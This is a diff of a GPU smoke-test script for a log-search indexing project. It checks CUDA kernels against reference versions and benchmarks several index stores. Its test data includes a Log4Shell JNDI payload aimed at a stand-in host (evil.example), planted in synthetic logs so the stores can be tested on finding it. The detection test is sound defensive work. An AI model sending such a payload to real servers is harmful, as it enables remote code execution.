@@ -5,24 +5,42 @@
 
 Phases (any failure raises, so the exit code is not 0):
   1. print the card's name and power limit (nvidia-smi);
-  2. build the CUDA kernels from ``src/repro_torch/kernels/csrc`` (nvcc);
+  2. build the five CUDA kernels from ``src/repro_torch/kernels/csrc``
+     (nvcc, one process per source, all at once);
   3. hold each kernel against its plain PyTorch version on the card, at the
      main path's shapes and at the edges (ragged W, Q not a power of two,
-     empty / full / over-max_hits rows, absent keys, fallback keys), bit
-     for bit, and time both;
-  4. the main path: a 1M-line synthetic log (1000 sources) ingested into
-     ``DynaWarpStore(mode="segmented")`` at the paper's defaults on the GPU,
-     then waves of term and multi-token contains queries; every candidate
-     list must equal the engine's scalar host path and a sample of term
-     answers must equal the scan store's;
-  5. print the ``kernels`` JSON line (launch counts of the main path, the
+     empty / full / over-max_hits rows, absent keys, fallback keys, token
+     rows of length 0, L and past L), bit for bit, and time both;
+  4. the segmented path: a 1M-line synthetic log (1000 sources) ingested
+     into ``DynaWarpStore(mode="segmented")`` at the paper's defaults on the
+     GPU (its term matrices through ``token_hash``), then waves of term and
+     multi-token contains queries; every candidate list must equal the
+     engine's scalar host path and a sample of term answers must equal the
+     scan store's;
+  5. the CSC path: ``CscStore`` on the same lines, sized by the paper's
+     protocol (the next power of two above the DynaWarp sketch's bits), its
+     bits on the GPU; the same term and contains queries as one
+     ``csc_probe`` call and one by one; no false negatives, scan-equal
+     matches, one upload; then ``csc_probe`` against its plain version on
+     this store's sketch and at the edges (p = 16, p = 40, j = 2, m = 64,
+     anchors that wrap at m);
+  6. the log_search path (``examples/log_search.py``: 20,000 lines, 32
+     sources, three planted Log4Shell lines) over every store of
+     ``ALL_STORES`` on the GPU, each equal to its CPU run, batch-mode and
+     segmented DynaWarp equal;
+  7. print the ``kernels`` JSON line (launch counts of each path, the
      error against the plain versions, times and bounds), then the result.
+
+Each path's launch counts are set to 0 just before it and read just
+after; the launches that compare a kernel with its plain version fall
+outside those windows.
 
 It needs one CUDA card and the repository around it; without either it
 exits with a non-zero code and prints no result.
 """
 from __future__ import annotations
 
+import functools
 import gc
 import json
 import statistics
@@ -35,6 +53,12 @@ ROOT = Path(__file__).resolve().parent
 N_LINES, N_SOURCES, SEED, BATCH_LINES = 1_000_000, 1000, 3, 512
 N_TERMS, N_NEEDLES = 4096, 1024      # term wave: half present, half absent
 N_SCAN_SAMPLE = 8
+N_TOKEN_ROWS = 32_768                # about one flush batch's term matrix
+# examples/log_search.py: the Log4Shell hunt over every store
+HUNT_LINES, HUNT_SOURCES, HUNT_BATCH = 20_000, 32, 128
+HUNT_POS = (1234, 9876, 18765)
+ATTACK = 'GET /api HTTP/1.1 400 payload="${jndi:ldap://evil.example/a}"'
+DEVICE_STORES = ("dynawarp", "csc")  # the stores that take a device
 HBM_BYTES_PER_S = 3.35e12            # H100 SXM device memory rate
 SPIN_CYCLES = 20_000_000             # queued spin that hides launch cost
 REPS = 25
@@ -43,6 +67,15 @@ REPS = 25
 def require(cond: bool, what: str) -> None:
     if not cond:
         raise RuntimeError(f"chip_smoke: {what}")
+
+
+def reset(counters) -> None:
+    for c in counters.values():
+        c.launch_count = 0
+
+
+def read(counters) -> dict:
+    return {k: c.launch_count for k, c in counters.items()}
 
 
 # ------------------------------------------------------------------ timing
@@ -81,6 +114,12 @@ def device_busy(torch, fn) -> tuple[float, float | None]:
     busy = sum(e.self_device_time_total for e in prof.key_averages()
                if e.device_type == torch.autograd.DeviceType.CUDA)
     return wall * 1e3, (busy / 1e3 if busy else None)
+
+
+def busy_text(wall_ms: float, busy_ms: float | None) -> str:
+    return ("not measured" if busy_ms is None else
+            f"{busy_ms:.3f} ms ({100 * busy_ms / wall_ms:.1f}% of "
+            f"{wall_ms:.1f} ms profiled)")
 
 
 def nbytes(*tensors) -> int:
@@ -129,10 +168,52 @@ def mphf_input(np, build_mphf, seed, n_keys, max_levels, q):
 
 
 # ---------------------------------------------------------------- phase 3
+def hold(torch, name, cases, kernel, plain, bytes_of, main) -> dict:
+    """``kernel`` against ``plain`` on every case (a tuple whose last item
+    names it), bit for bit; then both timed at ``cases[main]``, with the
+    bytes bound of that case.  Both return a tuple of tensors."""
+    err, shapes = 0, []
+    for case in cases:
+        outs, refs = kernel(*case), plain(*case)
+        torch.cuda.synchronize()
+        e = max((int((a.to(torch.int64) - b.to(torch.int64)).abs().max())
+                 if a.numel() else 0) for a, b in zip(outs, refs))
+        require(e == 0 and all(a.shape == b.shape and a.dtype == b.dtype
+                               and torch.equal(a, b)
+                               for a, b in zip(outs, refs)),
+                f"{name} disagrees with its plain version on {case[-1]}")
+        err = max(err, e)
+        shapes.append(case[-1])
+    case = cases[main]
+    ms = device_ms(torch, lambda: kernel(*case))
+    plain_ms = device_ms(torch, lambda: plain(*case))
+    bound = bytes_of(*case) / HBM_BYTES_PER_S * 1e3
+    print(f"kernel {name}: bit-exact on {len(cases)} cases {shapes}; "
+          f"at {case[-1]}: kernel {ms:.4f} ms, plain {plain_ms:.4f} ms, "
+          f"bound {bound:.6f} ms (bytes)", flush=True)
+    return dict(max_abs_err=err, ms=ms, plain_ms=plain_ms, bound_ms=bound,
+                shape=case[-1])
+
+
+def token_matrix(np, seed, n, l):
+    """A zero-padded (N, L) token matrix with lengths over 0..L, a row of
+    length 0, a full row and (from N = 5) a length past L."""
+    rng = np.random.default_rng(seed)
+    toks = rng.integers(0, 256, (n, l)).astype(np.uint8)
+    lens = rng.integers(0, l + 1, n).astype(np.int32)
+    lens[:3] = (0, l, l + 9)[:n]
+    toks[np.arange(l)[None, :] >= lens[:, None]] = 0
+    return toks, lens
+
+
 def check_kernels(torch, np, dev) -> dict:
-    """Every kernel function against its plain version on the card; returns
-    per-kernel error, times and bounds at its main-path shape."""
+    """Every kernel function but ``csc_probe`` (held on the CSC path's own
+    sketch, see ``check_csc``) against its plain version on the card;
+    returns per-kernel error, times and bounds at its main-path shape."""
     from repro_torch.core.mphf import build_mphf
+    from repro_torch.core.tokenizer import (MAX_TOKEN_BYTES,
+                                            pack_tokens_batch,
+                                            tokenize_lines_columnar)
     from repro_torch.kernels.bitmap_extract.ops import bitmap_extract
     from repro_torch.kernels.bitmap_extract.ref import bitmap_extract_ref
     from repro_torch.kernels.bitset_ops.ops import (bitset_reduce,
@@ -141,32 +222,11 @@ def check_kernels(torch, np, dev) -> dict:
                                                     bitset_reduce_ref)
     from repro_torch.kernels.sketch_probe.ops import mphf_probe_arrs
     from repro_torch.kernels.sketch_probe.ref import sketch_probe_ref
+    from repro_torch.kernels.token_hash.ops import token_fingerprints
+    from repro_torch.kernels.token_hash.ref import token_hash_ref
+    from repro_torch.logstore.datasets import generate_dataset
 
-    def max_err(outs, refs):
-        return max(int((a.to(torch.int64) - b.to(torch.int64)).abs().max())
-                   if a.numel() else 0 for a, b in zip(outs, refs))
-
-    def run(name, cases, kernel, plain, bytes_of, main):
-        err, shapes = 0, []
-        for case in cases:
-            outs, refs = kernel(*case), plain(*case)
-            torch.cuda.synchronize()
-            e = max_err(outs, refs)
-            require(e == 0 and all(torch.equal(a, b)
-                                   for a, b in zip(outs, refs)),
-                    f"{name} disagrees with its plain version on {case[-1]}")
-            err = max(err, e)
-            shapes.append(case[-1])
-        case = cases[main]
-        ms = device_ms(torch, lambda: kernel(*case))
-        plain_ms = device_ms(torch, lambda: plain(*case))
-        bound = bytes_of(*case) / HBM_BYTES_PER_S * 1e3
-        print(f"kernel {name}: bit-exact on {len(cases)} cases {shapes}; "
-              f"at {case[-1]}: kernel {ms:.4f} ms, plain {plain_ms:.4f} ms, "
-              f"bound {bound:.6f} ms (bytes)", flush=True)
-        return dict(max_abs_err=err, ms=ms, plain_ms=plain_ms,
-                    bound_ms=bound, shape=case[-1])
-
+    run = functools.partial(hold, torch)
     results = {}
     # sketch_probe: a main-path-sized MPHF (~200k keys, the largest
     # segment's), one whose keys partly land in the fallback array, a tiny one
@@ -224,11 +284,40 @@ def check_kernels(torch, np, dev) -> dict:
         lambda b, mh, _: bitmap_extract(b, max_hits=mh),
         lambda b, mh, _: bitmap_extract_ref(b, max_hits=mh),
         lambda b, mh, _: nbytes(b) + 4 * b.shape[0] * (mh + 1), 0)
+
+    # token_hash: the main shape is a real term matrix (rules 1-5 tokens of
+    # generated log lines, packed to 64 bytes as the ingest path packs
+    # them); the edges are odd widths, N off the block, N = 0, lengths 0,
+    # L and past L, and a matrix that is not 16-byte aligned
+    ds = generate_dataset("tokens", n_lines=4096, n_sources=64, seed=SEED)
+    tokens = tokenize_lines_columnar(ds.lines, ngrams=False)[0]
+    require(len(tokens) >= N_TOKEN_ROWS, "too few tokens for the main shape")
+    mat, lens = pack_tokens_batch(tokens[:N_TOKEN_ROWS], MAX_TOKEN_BYTES)
+    th = [(torch.from_numpy(mat).to(dev), torch.from_numpy(lens).to(dev),
+           f"term matrix {mat.shape}")]
+    for i, (n, l) in enumerate(((8, 4), (100, 24), (1025, 12), (4096, 16),
+                                (257, 64), (0, 64), (3, 1))):
+        t, ln = token_matrix(np, 30 + i, n, l)
+        th.append((torch.from_numpy(t).to(dev), torch.from_numpy(ln).to(dev),
+                   f"({n}, {l})"))
+    t, ln = token_matrix(np, 40, 999, 64)
+    buf = torch.zeros(t.size + 4, dtype=torch.uint8, device=dev)
+    unaligned = buf[4:].view(999, 64)
+    unaligned.copy_(torch.from_numpy(t).to(dev))
+    th.append((unaligned, torch.from_numpy(ln).to(dev), "(999, 64) unaligned"))
+    results["token_hash"] = run(
+        "token_hash", th,
+        lambda t, ln, _: (token_fingerprints(t, ln),),
+        lambda t, ln, _: (token_hash_ref(t, ln),),
+        # the bytes the hash needs: each row's first min(len, L) bytes, the
+        # lengths, the fingerprints
+        lambda t, ln, _: (int(ln.clamp(0, t.shape[1]).sum()) + 8 * t.shape[0]),
+        0)
     return results
 
 
 # ---------------------------------------------------------------- phase 4
-def main_path(torch, np, counters) -> dict:
+def main_path(torch, np, dev, counters) -> dict:
     from repro_torch.core.query_engine import _as_fp
     from repro_torch.core.tokenizer import (contains_query_tokens,
                                             term_query_tokens)
@@ -251,11 +340,11 @@ def main_path(torch, np, counters) -> dict:
     print(f"dataset: {ds.n_lines} lines, {N_SOURCES} sources, "
           f"{time.perf_counter() - t0:.1f} s", flush=True)
 
-    for c in counters.values():
-        c.launch_count = 0
+    reset(counters)
     # ----------------------------------------------- the main path proper
     t0 = time.perf_counter()
-    store = DynaWarpStore(batch_lines=BATCH_LINES, mode="segmented")
+    store = DynaWarpStore(batch_lines=BATCH_LINES, mode="segmented",
+                          device=dev)
     store.ingest(ds.lines)
     store.finish()
     ingest_s = time.perf_counter() - t0
@@ -285,12 +374,10 @@ def main_path(torch, np, counters) -> dict:
         waves[name] = dict(queries=len(out), cold_s=cold, warm_s=warm,
                            warm_qps=len(out) / warm, launches=launches,
                            profiled_wall_ms=wall_ms, device_busy_ms=busy_ms)
-        busy = ("not measured" if busy_ms is None else
-                f"{busy_ms:.3f} ms ({100 * busy_ms / wall_ms:.1f}% of "
-                f"{wall_ms:.1f} ms profiled)")
         print(f"wave {name}: {len(out)} queries, cold {cold:.3f} s, warm "
               f"{warm:.4f} s = {len(out) / warm:.0f} q/s, launches per wave "
-              f"{launches}, device busy {busy}", flush=True)
+              f"{launches}, device busy {busy_text(wall_ms, busy_ms)}",
+              flush=True)
         return out
 
     term_cands = wave("term", lambda: store.candidates_term_batch(terms))
@@ -320,7 +407,7 @@ def main_path(torch, np, counters) -> dict:
 
     stages("term", [term_query_tokens(t) for t in terms], "and")
     stages("contains_and", needle_toks, "and")
-    launches = {k: c.launch_count for k, c in counters.items()}
+    launches = read(counters)
     # ------------------------------------------------------------ checks
     segs = store.segments
     print(f"store: {len(store.blobs)} batches, {len(segs)} segments "
@@ -349,17 +436,261 @@ def main_path(torch, np, counters) -> dict:
     scan.ingest(ds.lines)
     scan.finish()
     sample = present[:N_SCAN_SAMPLE - 2] + terms[-2:]
+    truth = {t: scan.query_term(t).matches for t in sample}
     for t, r in zip(sample, store.query_term_batch(sample)):
-        truth = scan.query_term(t).matches
-        require(r.matches == truth, f"scan oracle differs on {t!r}")
+        require(r.matches == truth[t], f"scan oracle differs on {t!r}")
     print(f"scan-oracle check: {len(sample)} terms identical "
-          f"({sum(len(scan.query_term(t).matches) for t in sample[:2])} "
+          f"({sum(len(truth[t]) for t in sample[:2])} "
           f"matches in the first two), {time.perf_counter() - t0:.1f} s",
           flush=True)
-    return dict(launches=launches, waves=waves, ingest_s=ingest_s)
+    return dict(launches=launches, waves=waves, ingest_s=ingest_s,
+                ds=ds, terms=terms, needles=needles, needle_toks=needle_toks,
+                store=store, scan=scan, truth=truth)
+
+
+# ---------------------------------------------------------------- phase 5
+def csc_path(torch, np, dev, counters, seg) -> dict:
+    """CscStore on the segmented path's lines, sized by the paper's
+    protocol; the same term and contains queries as one csc_probe call
+    over every fingerprint and as per-query calls."""
+    from repro_torch.core.hashing import token_fingerprint
+    from repro_torch.core.tokenizer import (_ALNUM, contains_query_tokens,
+                                            term_query_tokens)
+    from repro_torch.kernels.csc_probe.ops import csc_partition_mask
+    from repro_torch.logstore.store import CscStore
+
+    ds, dw, scan = seg["ds"], seg["store"], seg["scan"]
+    terms, needles = seg["terms"], seg["needles"]
+    dw_bits = dw.stats.index_bytes * 8
+    m_bits = 1 << (dw_bits - 1).bit_length()      # benchmarks/common.py
+    # CscStore.candidates_term probes the term and its n-grams (§5.2)
+    query_toks = ([term_query_tokens(t) + contains_query_tokens(t)
+                   for t in terms] + seg["needle_toks"])
+    lens = np.asarray([len(t) for t in query_toks])
+    wave_fps = np.fromiter((token_fingerprint(x) for toks in query_toks
+                            for x in toks), np.uint32, int(lens.sum()))
+
+    reset(counters)
+    t0 = time.perf_counter()
+    csc = CscStore(batch_lines=BATCH_LINES, m_bits=m_bits, device=dev)
+    csc.ingest(ds.lines)
+    csc.finish()
+    ingest_s = time.perf_counter() - t0
+
+    def wave():
+        fps = torch.from_numpy(wave_fps.view(np.int32)).to(dev)
+        mask = csc_partition_mask(csc.sketch, fps)
+        torch.cuda.synchronize()
+        return fps, mask
+
+    t = time.perf_counter()
+    wave()
+    cold_s = time.perf_counter() - t
+    t = time.perf_counter()
+    fps_dev, mask = wave()
+    warm_s = time.perf_counter() - t
+    t = time.perf_counter()
+    per_term = [csc.candidates_term(x) for x in terms]
+    per_needle = [csc.candidates_contains(n) for n in needles]
+    torch.cuda.synchronize()
+    per_query_s = time.perf_counter() - t
+    launches = read(counters)
+    n_q = len(terms) + len(needles)
+    wave_busy = device_busy(torch, wave)
+    sample_busy = device_busy(torch, lambda: [csc.candidates_term(x)
+                                              for x in terms[:512]])
+    print(f"csc device busy: wave {busy_text(*wave_busy)}; 512 per-query "
+          f"term calls {busy_text(*sample_busy)}", flush=True)
+    print(f"csc: m = {csc.sketch.m} bits (DynaWarp sketch {dw_bits} bits), "
+          f"{csc.n_batches} batches, ingest+finish {ingest_s:.1f} s; wave of "
+          f"{len(wave_fps)} fingerprints ({n_q} queries) in one csc_probe "
+          f"call: cold {cold_s * 1e3:.2f} ms, warm {warm_s * 1e3:.2f} ms = "
+          f"{n_q / warm_s:.0f} q/s; per-query candidates {per_query_s:.3f} s"
+          f" = {n_q / per_query_s:.0f} q/s; launches {launches}", flush=True)
+
+    # ------------------------------------------------------------ checks
+    require(torch.equal(mask, csc.sketch.partition_mask_torch(fps_dev)),
+            "csc wave mask differs from the plain version")
+    host_mask = mask.cpu().numpy()
+    ends = np.cumsum(lens)
+    for i, got in enumerate(per_term + per_needle):
+        rows = host_mask[ends[i] - lens[i]:ends[i]]
+        require(np.array_equal(got, csc.sketch.sets_of(rows.all(axis=0))),
+                f"csc query {i}: per-query candidates differ from the wave")
+    # the exact batches of every term in one pass over the data: the terms
+    # are single alphanumeric runs, and such a term matches a line exactly
+    # when it is one of the line's rule-1 runs; held to the scan store on
+    # the segmented path's sample
+    t0 = time.perf_counter()
+    require(all(_ALNUM.fullmatch(t) and t == t.lower() for t in terms),
+            "a wave term is not a single lowercase alphanumeric run")
+    wanted, truth = set(terms), {t: [] for t in terms}
+    for b in range(csc.n_batches):
+        for t in wanted.intersection(
+                _ALNUM.findall("\n".join(csc._batch_lower(b)[1]))):
+            truth[t].append(b)
+    starts = np.asarray(csc.batch_start)
+    for t, matches in seg["truth"].items():
+        want = np.unique(np.searchsorted(starts, matches, side="right") - 1)
+        require(np.array_equal(want, truth[t]),
+                f"the one-pass truth differs from the scan store on {t!r}")
+    dw_cands = dw.candidates_term_batch(terms)
+    for t, c, d in zip(terms, per_term, dw_cands):
+        require(np.isin(truth[t], c).all(), f"csc false negative on {t!r}")
+        require(np.isin(truth[t], d).all(), f"dynawarp false negative on {t!r}")
+    for t, want in seg["truth"].items():
+        require(csc.query_term(t).matches == want,
+                f"csc matches differ from the scan store on {t!r}")
+    for n in needles[:2]:
+        require(csc.query_contains(n).matches == scan.query_contains(n).matches,
+                f"csc contains matches differ from the scan store on {n!r}")
+    require(csc.sketch.upload_count == 1, "the csc sketch uploaded more than once")
+    fp_csc = [len(c) - len(truth[t]) for t, c in zip(terms, per_term)]
+    fp_dw = [len(d) - len(truth[t]) for t, d in zip(terms, dw_cands)]
+    finding = dict(csc_index_bytes=csc.stats.index_bytes,
+                   dynawarp_index_bytes=dw.stats.index_bytes,
+                   csc_fp_batches_per_term=float(np.mean(fp_csc)),
+                   dynawarp_fp_batches_per_term=float(np.mean(fp_dw)),
+                   true_batches_per_term=float(np.mean(
+                       [len(v) for v in truth.values()])),
+                   csc_bits_set_share=float(np.unpackbits(
+                       csc.sketch.bits.view(np.uint8)).mean()),
+                   batches=csc.n_batches, terms=len(terms))
+    print(f"csc checks: no false negatives over {len(terms)} terms, "
+          f"{len(seg['truth'])} terms + 2 needles scan-equal, one upload, "
+          f"{time.perf_counter() - t0:.1f} s; finding: {finding}", flush=True)
+    return dict(launches=launches, ingest_s=ingest_s, m=csc.sketch.m,
+                wave_fps=len(wave_fps), wave_cold_s=cold_s,
+                wave_warm_s=warm_s, wave_qps=n_q / warm_s,
+                wave_profiled_ms=wave_busy[0], wave_busy_ms=wave_busy[1],
+                per_query_profiled_ms=sample_busy[0],
+                per_query_busy_ms=sample_busy[1],
+                per_query_s=per_query_s, per_query_qps=n_q / per_query_s,
+                finding=finding, sketch=csc.sketch, fps=fps_dev)
+
+
+def check_csc(torch, np, dev, sketch, fps) -> dict:
+    """csc_probe against its plain version on the CSC path's own sketch
+    and wave (the main shape) and on small sketches at the edges."""
+    from repro_torch.baselines.csc import CSCSketch, _seed
+    from repro_torch.core.hashing import np_seeded_hash32
+    from repro_torch.kernels.csc_probe.ops import csc_partition_mask
+
+    cases = [(sketch, fps, f"m={sketch.m} k={sketch.k} p={sketch.p} "
+              f"j={sketch.j} Q={fps.numel()}")]
+    rng = np.random.default_rng(SEED)
+    for m_bits, k, p, j in ((1 << 12, 2, 16, 1), (1 << 16, 4, 64, 2),
+                            (64, 3, 64, 2), (1 << 20, 4, 40, 1),
+                            (1 << 14, 2, 256, 1)):
+        sk = CSCSketch.build(m_bits=m_bits, k=k, p=p, j=j)
+        ins = rng.integers(0, 2**32, 1500, dtype=np.uint64).astype(np.uint32)
+        sk.insert_batch(ins, rng.integers(0, 50, 1500))
+        q = np.concatenate([ins[:100], rng.integers(
+            0, 2**32, 1000, dtype=np.uint64).astype(np.uint32)])
+        cases.append((sk, u32_tensor(torch, np, q, dev),
+                      f"m={m_bits} k={k} p={p} j={j} Q={q.size}"))
+    # anchors at m - 32: the 64 bits read the last word and wrap to the first
+    sk = CSCSketch.build(m_bits=1 << 10, k=1, p=64, j=1)
+    sk.bits[0, -1], sk.bits[0, 0] = 0xFFFFFFFF, 0x0000FFFF
+    q = np.arange(200_000, dtype=np.uint32)
+    q = q[(np_seeded_hash32(q, _seed(0, 0)) & np.uint32(sk.m - 1)) == sk.m - 32]
+    require(q.size > 0, "no wrap-around anchors")
+    wrap = csc_partition_mask(sk, u32_tensor(torch, np, q, dev)).cpu().numpy()
+    require(wrap[:, :48].all() and not wrap[:, 48:].any(),
+            "csc_probe does not wrap at m")
+    cases.append((sk, u32_tensor(torch, np, q, dev), f"wrap at m Q={q.size}"))
+
+    def bytes_of(sk, f, _):
+        # fingerprints read, the words each anchor needs, the mask written
+        words = sk.j * sk.k * ((sk.p + 31) // 32 + 1)
+        return f.numel() * (4 + 4 * words + sk.p)
+
+    return hold(torch, "csc_probe", cases,
+                lambda sk, f, _: (csc_partition_mask(sk, f),),
+                lambda sk, f, _: (sk.partition_mask_torch(f),),
+                bytes_of, 0)
+
+
+# ---------------------------------------------------------------- phase 6
+def log_search_path(torch, np, dev, counters) -> dict:
+    """``examples/log_search.py`` over every store on the GPU, each held to
+    its CPU run, and batch-mode DynaWarp held to segmented mode."""
+    from repro_torch.core.tokenizer import contains_query_tokens
+    from repro_torch.logstore.datasets import (generate_dataset,
+                                               present_id_queries)
+    from repro_torch.logstore.store import ALL_STORES, DynaWarpStore
+
+    ds = generate_dataset("hunt", n_lines=HUNT_LINES, n_sources=HUNT_SOURCES,
+                          seed=SEED)
+    lines = list(ds.lines)
+    for pos in HUNT_POS:
+        lines[pos] = ATTACK
+    terms = present_id_queries(ds, SEED + 5, 64)
+
+    def build(name, device, **kw):
+        if name in DEVICE_STORES:
+            kw["device"] = device
+        store = ALL_STORES[name](batch_lines=HUNT_BATCH, **kw)
+        store.ingest(lines)
+        store.finish()
+        return store
+
+    reset(counters)
+    stores, rows = {}, {}
+    for name in ALL_STORES:
+        t0 = time.perf_counter()
+        st = stores[name] = build(name, dev)
+        build_s = time.perf_counter() - t0
+        t0 = time.perf_counter()
+        r = st.query_contains("${jndi")
+        query_ms = (time.perf_counter() - t0) * 1e3
+        require(r.matches == list(HUNT_POS),
+                f"{name} found {r.matches}, not the planted attacks")
+        rows[name] = dict(found=len(r.matches),
+                          touched=len(r.candidate_batches),
+                          batches=r.batches_total, query_ms=query_ms,
+                          index_bytes=st.stats.index_bytes, build_s=build_s)
+        print(f"log_search {name:9s} found {len(r.matches)} attacks, touched "
+              f"{len(r.candidate_batches):4d}/{r.batches_total} batches in "
+              f"{query_ms:7.2f} ms (index {st.stats.index_bytes / 1e3:8.1f} "
+              f"KB, build {build_s:.1f} s)", flush=True)
+    dw = stores["dynawarp"]
+    require(dw.mode == "batch", "DynaWarp does not default to batch mode")
+    hunt_wave = dw.engine.query_batch([contains_query_tokens("${jndi")])[0]
+    term_wave = dw.candidates_term_batch(terms)
+    torch.cuda.synchronize()
+    launches = read(counters)
+    require(np.array_equal(hunt_wave, dw.candidates_contains("${jndi")),
+            "batch-mode hunt wave differs from the lone query")
+
+    t0 = time.perf_counter()
+    for name in DEVICE_STORES:
+        cpu = build(name, "cpu")
+        for t in terms + ["${jndi"]:
+            fn = "candidates_contains" if t == "${jndi" else "candidates_term"
+            require(np.array_equal(getattr(stores[name], fn)(t),
+                                   getattr(cpu, fn)(t)),
+                    f"{name} on the GPU differs from its CPU run on {t!r}")
+    seg = DynaWarpStore(batch_lines=HUNT_BATCH, mode="segmented", device=dev)
+    seg.ingest(lines)
+    seg.finish()
+    require(seg.query_contains("${jndi").matches == list(HUNT_POS),
+            "segmented DynaWarp missed an attack")
+    for t, a, b in zip(terms, dw.query_term_batch(terms),
+                       seg.query_term_batch(terms)):
+        require(a.matches == b.matches,
+                f"batch and segmented DynaWarp differ on {t!r}")
+    require(all(np.array_equal(a, b) for a, b in
+                zip(term_wave, [dw.candidates_term(t) for t in terms])),
+            "batch-mode term wave differs from lone queries")
+    print(f"log_search checks: GPU == CPU for {DEVICE_STORES} over "
+          f"{len(terms) + 1} queries, batch == segmented DynaWarp, "
+          f"{time.perf_counter() - t0:.1f} s; launches {launches}", flush=True)
+    return dict(launches=launches, stores=rows)
 
 
 def main() -> int:
+    t_start = time.perf_counter()
     try:
         import numpy as np
         import torch
@@ -375,11 +706,10 @@ def main() -> int:
               "script", file=sys.stderr)
         return 2
     sys.path.insert(0, str(ROOT / "src"))
-    from repro_torch.kernels import build
-    from repro_torch.kernels.bitmap_extract.ops import bitmap_extract
-    from repro_torch.kernels.bitset_ops.ops import (bitset_reduce,
-                                                    bitset_reduce_batch)
-    from repro_torch.kernels.sketch_probe.ops import mphf_probe_arrs
+    from repro_torch.kernels import (bitmap_extract, bitset_reduce,
+                                     bitset_reduce_batch, build,
+                                     csc_partition_mask, mphf_probe_arrs,
+                                     token_fingerprints)
 
     card = subprocess.run(
         ["nvidia-smi", "--query-gpu=name,power.limit",
@@ -397,11 +727,29 @@ def main() -> int:
     counters = {"sketch_probe": mphf_probe_arrs,
                 "bitset_reduce_batch": bitset_reduce_batch,
                 "bitset_reduce": bitset_reduce,
-                "bitmap_extract": bitmap_extract}
-    path = main_path(torch, np, counters)
-    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract"):
-        require(path["launches"][name] > 0,
-                f"the main path never launched {name}")
+                "bitmap_extract": bitmap_extract,
+                "token_hash": token_fingerprints,
+                "csc_probe": csc_partition_mask}
+    paths = {}
+    seg = main_path(torch, np, dev, counters)
+    paths["segmented"] = seg["launches"]
+    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract",
+                 "token_hash"):
+        require(seg["launches"][name] > 0,
+                f"the segmented path never launched {name}")
+    csc = csc_path(torch, np, dev, counters, seg)
+    paths["csc"] = csc["launches"]
+    for name in ("token_hash", "csc_probe"):
+        require(csc["launches"][name] > 0,
+                f"the csc path never launched {name}")
+    kernels["csc_probe"] = check_csc(torch, np, dev, csc.pop("sketch"),
+                                     csc.pop("fps"))
+    hunt = log_search_path(torch, np, dev, counters)
+    paths["log_search"] = hunt["launches"]
+    for name in ("sketch_probe", "bitset_reduce_batch", "bitmap_extract",
+                 "token_hash", "csc_probe"):
+        require(hunt["launches"][name] > 0,
+                f"the log_search path never launched {name}")
 
     src = "src/repro_torch/kernels/csrc/"
     meta = {
@@ -413,15 +761,24 @@ def main() -> int:
                           "src/repro/kernels/bitset_ops/kernel.py:81"),
         "bitmap_extract": (src + "bitmap_extract.cu",
                            "src/repro/kernels/bitmap_extract/kernel.py:54"),
+        "token_hash": (src + "token_hash.cu",
+                       "src/repro/kernels/token_hash/kernel.py:49"),
+        "csc_probe": (src + "csc_probe.cu",
+                      "src/repro/kernels/csc_probe/kernel.py:57"),
     }
     rows = [dict(name=name, route="cuda", source=meta[name][0],
-                 replaces=meta[name][1], launches=path["launches"][name],
+                 replaces=meta[name][1],
+                 launches=sum(p[name] for p in paths.values()),
+                 launches_by_path={k: p[name] for k, p in paths.items()},
                  max_abs_err=k["max_abs_err"], ms=k["ms"],
                  plain_ms=k["plain_ms"], bound_ms=k["bound_ms"],
                  bound_by="bytes", library_ms=None, shape=k["shape"])
             for name, k in kernels.items()]
-    print(json.dumps(dict(card=card, ingest_s=path["ingest_s"],
-                          waves=path["waves"])))
+    total_s = time.perf_counter() - t_start
+    print(json.dumps(dict(card=card, total_s=total_s,
+                          segmented=dict(ingest_s=seg["ingest_s"],
+                                         waves=seg["waves"]),
+                          csc=csc, log_search=hunt["stores"])))
     print(json.dumps({"kernels": rows}))
     print(json.dumps({"ok": True, "device": {
         "platform": "gpu", "kind": torch.cuda.get_device_name(0),
